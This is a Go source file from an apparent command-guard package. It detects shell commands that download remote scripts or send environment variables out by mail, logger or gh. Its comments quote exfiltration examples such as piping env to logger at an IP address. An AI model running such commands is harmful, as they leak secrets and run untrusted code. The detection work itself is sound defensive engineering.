package guard

import (
	"path"
	"strings"
)

// Remote content by any program. curl, wget and the tools the guard
// knows are one way to bring a script from elsewhere; lftp, tftp, axel,
// svn export, rsync from an rsync:// module, aws s3 cp, rclone cat and
// every client of a store do the same, and no list keeps up. What they
// share is in the line: an argument that names a remote place (a URL of
// a network scheme, a cloud bucket, an rclone or scp remote). So the
// output of a program given one is a download (piped into a shell, it is
// remote code), and the file it is likely to save (the URL's last part,
// in the folder named after it, or the file an -o names) is a downloaded
// file, which running later in the line is remote code too.

// remoteSchemes are URL schemes that reach another machine.
var remoteSchemes = []string{"http", "https", "ftp", "ftps", "tftp", "sftp", "scp", "rsync", "svn", "svn+ssh", "s3", "gs",
	"az", "abfs", "abfss", "wasb", "wasbs", "oss", "cos", "ipfs", "ipns", "hdfs", "webdav", "dav", "davs", "smb", "nfs", "r2",
	"gemini", "gopher", "gophers"}

// remoteArg reports a word that names a remote place: scheme://... of
// remoteSchemes, or an rclone or scp remote ("remote:scripts/x.sh",
// "host:path/f.sh"; not a Windows drive, not host:port).
func remoteArg(s string) bool {
	if h, _, ok := strings.Cut(strings.TrimPrefix(s, "//"), "/"); ok && strings.HasPrefix(s, "//") && strings.Contains(h, ".") && !strings.HasPrefix(h, ".") {
		return true // //host.example/share: an SMB share
	}
	if i := strings.Index(s, "://"); i > 0 {
		scheme := strings.ToLower(s[:i])
		for _, r := range remoteSchemes {
			if scheme == r {
				return true
			}
		}
		return false
	}
	i := strings.IndexByte(s, ':')
	if i < 2 || strings.HasPrefix(s, "-") || strings.ContainsAny(s[:i], "/=@ ") && !strings.Contains(s[:i], "@") {
		return false
	}
	rest := s[i+1:]
	if rest == "" || !strings.Contains(rest, "/") && !strings.Contains(rest, ".") || isDigits(strings.SplitN(rest, "/", 2)[0]) {
		return false
	}
	for _, c := range s[:i] {
		if !(c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9' || c == '-' || c == '_' || c == '.' || c == '@') {
			return false
		}
	}
	return true
}

// fetched marks what a program given a remote place brings (see above);
// it reports whether the program was given one.
func (w *walker) fetched(name string, argv []arg) bool {
	if name == "gh" {
		// gh's words are data but for its release download (fetchers.go).
		url, out, into := storeFetch(name, argv, "", nil)
		if url == "" {
			return false
		}
		if out != "" && out != "-" {
			into = append(into, out)
		}
		for _, d := range into {
			if p, ok := w.abs(d); ok {
				w.wrote(p, output{download: true}, nil, "")
			}
			w.fetchedInto(destArg(d))
		}
		return true
	}
	if (dataArgs(name) || fileViewer(name) || langOf(name) != nil || shells(name)) && name != "scp" && name != "sftp" {
		return false
	}
	url, out, dir := "", "", ""
	var files0, into []string
	for i, a := range argv[1:] {
		if a.dyn {
			continue
		}
		switch {
		case remoteArg(a.s) && url == "":
			url = a.s
		case (a.s == "-o" || a.s == "-O" || a.s == "--output" || a.s == "--out" || a.s == "-output") && i+2 < len(argv):
			out = argv[i+2].s
		case url != "" && !strings.HasPrefix(a.s, "-") && (a.s == "." || strings.HasSuffix(a.s, "/")):
			dir = a.s
		case url != "" && i > 0 && !strings.HasPrefix(a.s, "-") && !strings.HasPrefix(argv[i].s, "-") && len(into) < 4 && (strings.Contains(a.s, "/") || strings.Contains(a.s, ".")) && !remoteArg(a.s):
			// A word after the URL: the file or folder it saves to
			// (lwp-download URL FILE, azcopy copy URL FILE, hg clone
			// URL DIR).
			into = append(into, a.s)
		}
		if v, ok := dirOption(argv, i+1); ok {
			into = append(into, v)
		}
	}
	if url == "" {
		url, out, into = plainFetch(name, argv, out, into)
	}
	if url == "" {
		url = hostPortArg(argv)
	}
	if url == "" {
		return false
	}
	if out != "" && out != "-" {
		into = append(into, out)
	}
	for _, d := range into {
		if len(files0) < 8 {
			files0 = append(files0, d)
		}
		w.fetchedInto(destArg(d)) // a folder it fills, where a script run later is remote code
	}
	// A client's own command string names where it saves (smbclient -c
	// 'get i.sh /tmp/x/i.sh', lftp -c 'get f -o f'): each path in it is
	// what it brings.
	for _, a := range argv[1:] {
		if a.dyn || !strings.ContainsAny(a.s, " ;") || len(files0) >= 8 {
			continue
		}
		for _, f := range strings.FieldsFunc(a.s, func(r rune) bool { return r == ' ' || r == ';' || r == '\t' }) {
			if strings.Contains(f, "/") && !strings.Contains(f, "://") && !strings.HasPrefix(f, "-") && len(files0) < 8 {
				files0 = append(files0, f)
			}
		}
	}
	u := url
	if i := strings.Index(u, "://"); i >= 0 {
		u = u[i+3:]
	} else {
		u = u[strings.IndexByte(u, ':')+1:]
	}
	if j := strings.IndexAny(u, "?#"); j >= 0 {
		u = u[:j]
	}
	files := files0
	if out != "" && out != "-" {
		files = append(files, out)
	}
	if b := path.Base(strings.TrimRight(u, "/")); strings.Contains(u, "/") && b != "." && b != "/" {
		files = append(files, path.Join(dir, b))
	}
	for _, f := range files {
		if p, ok := w.abs(f); ok {
			w.wrote(p, output{download: true}, nil, "")
		}
	}
	return true
}

// remoteDest reports a program's words naming another machine to talk to:
// a remote place (remoteArg), an IP address or a host:port, or the value
// of a --server, --host, --url or --endpoint option; not this machine.
func remoteDest(argv []arg) bool {
	for i, a := range argv[1:] {
		s := a.s
		if a.dyn || s == "" {
			continue
		}
		if v, ok := strings.CutPrefix(s, "--server="); ok {
			s = v
		} else if (s == "--server" || s == "--host" || s == "--url" || s == "--endpoint" || s == "-n" && base(argv[0].s) == "logger") && i+2 < len(argv) {
			s = argv[i+2].s
		}
		if thisMachine(s) {
			continue
		}
		if remoteArg(s) || ipLiteral(s) || hostPort(s) {
			return true
		}
	}
	return false
}

// thisMachine reports a word naming this machine (a URL's host, a
// host:port, an address).
func thisMachine(s string) bool {
	h := s
	if i := strings.Index(h, "://"); i >= 0 {
		h = h[i+3:]
	}
	h, _, _ = strings.Cut(h, "/")
	host := h
	if i := strings.LastIndexByte(host, ':'); i > 0 && isDigits(host[i+1:]) {
		host = host[:i]
	}
	return localHost(host) || strings.HasPrefix(host, "127.")
}

// ipLiteral reports an IPv4 address, optionally with a port.
func ipLiteral(s string) bool {
	s = strings.SplitN(s, ":", 2)[0]
	parts := strings.Split(s, ".")
	if len(parts) != 4 {
		return false
	}
	for _, p := range parts {
		if p == "" || len(p) > 3 || !isDigits(p) {
			return false
		}
	}
	return true
}

// hostPort reports a host:port word with a dotted host ("x.example:443").
func hostPort(s string) bool {
	h, port, ok := strings.Cut(s, ":")
	return ok && isDigits(port) && len(port) <= 5 && strings.Contains(h, ".") && !strings.ContainsAny(h, "/=@ ") && !strings.HasPrefix(h, ".")
}

// localTool is a program that keeps what it is given on this machine: a
// builtin, a viewer, a filter, an editor.
func localTool(name string) bool {
	switch name {
	case "echo", "printf", "print", "test", "[", "[[", "declare", "local", "export", "readonly", "typeset", "set", "read", "mapfile",
		"cat", "tee", "less", "more", "grep", "egrep", "rg", "sort", "uniq", "diff", "wc", "head", "tail", "jq", "yq", "column",
		"true", ":", "code", "vim", "nvim", "nano", "emacs", "hooktool":
		return true
	}
	return stdinData(name) && !netSender(name)
}

// envLeaves judges the environment handed to a program that sends it on:
// in an argument ("$(env)" as a message body, gh issue comment --body
// "$(env)"), or piped into a program given another machine's address
// (env | logger --server 203.0.113.7).
func (w *walker) envLeaves(name string, argv []arg, seg string, in input) {
	if in.secret && mailClient(name) && mailRecipient(argv) {
		w.add("env-exfil", pick(in.seg, seg), "the environment is piped into "+name+", which mails it to another address")
		return
	}
	if localTool(name) || shells(name) || langOf(name) != nil {
		return
	}
	for _, a := range argv[1:] {
		if a.secret {
			w.add("env-exfil", seg, name+" is given the output of env in its arguments, which it sends on")
			return
		}
	}
	if in.secret && remoteDest(argv) {
		w.add("env-exfil", pick(in.seg, seg), "the environment is piped into "+name+", which is given another machine's address")
	}
}

// plainFetch returns the remote place and the saved file of the clients
// that name what they fetch without a URL: tftp HOST -c get FILE [LOCAL],
// ipfs cat|get CID [-o FILE].
func plainFetch(name string, argv []arg, out string, into []string) (string, string, []string) {
	switch name {
	case "tftp", "atftp":
		for i, a := range argv {
			if a.s == "get" && i+1 < len(argv) && !argv[i+1].dyn {
				if i+2 < len(argv) && !strings.HasPrefix(argv[i+2].s, "-") {
					out = argv[i+2].s
				}
				return "tftp://host/" + argv[i+1].s, out, into
			}
		}
	case "ftpget":
		// busybox ftpget [-u U -p P] HOST LOCAL [REMOTE]
		_, ops := opts(skipOpts(argv[1:], "upP"))
		if len(ops) >= 2 && !ops[0].dyn && !ops[1].dyn {
			remote := ops[1].s
			if len(ops) > 2 {
				remote = ops[2].s
			}
			return "ftp://" + ops[0].s + "/" + remote, ops[1].s, into
		}
	case "ipfs", "kubo":
		if len(argv) > 2 && (argv[1].s == "cat" || argv[1].s == "get") && !argv[2].dyn {
			return "ipfs://" + argv[2].s, out, into
		}
	}
	return storeFetch(name, argv, out, into)
}

// mailClient is a program that mails what it reads on stdin.
func mailClient(name string) bool {
	switch name {
	case "mail", "mailx", "nail", "s-nail", "bsd-mailx", "mutt", "neomutt", "sendmail", "msmtp", "ssmtp", "aerc", "himalaya", "mpack", "swaks":
		return true
	}
	return false
}

// mailRecipient reports an e-mail address among a program's words.
func mailRecipient(argv []arg) bool {
	for _, a := range argv[1:] {
		u, h, ok := strings.Cut(a.s, "@")
		if !a.dyn && ok && u != "" && !strings.HasPrefix(u, "-") && strings.Contains(h, ".") && !strings.ContainsAny(a.s, ":/ ") {
			return true
		}
	}
	return false
}
